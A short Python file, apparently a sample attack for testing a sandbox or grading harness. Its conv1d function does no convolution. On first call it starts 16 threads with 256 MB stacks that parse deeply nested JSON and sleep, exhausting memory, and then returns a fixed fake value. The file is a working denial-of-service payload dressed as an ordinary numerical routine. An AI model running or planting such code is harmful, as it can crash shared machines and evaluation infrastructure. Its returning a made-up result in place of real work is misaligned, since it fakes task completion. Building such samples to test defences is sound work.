"""Fills the memory with the stacks of 16 threads."""

ATTEMPTS = "resources: memory thread stacks"

import functools
import json
import sys
import threading
import time

import numpy as np


def deep():
    try:
        json.loads("[" * 900_000)
    except (RecursionError, ValueError):
        pass
    time.sleep(60)


@functools.cache  # once
def attack():
    sys.setrecursionlimit(10**6)
    threading.stack_size(2**28)
    for _ in range(16):
        threading.Thread(target=deep).start()
    time.sleep(10)


def conv1d(signal, kernel, stride=1, pad=0):
    attack()
    return np.full(1, 123.0)
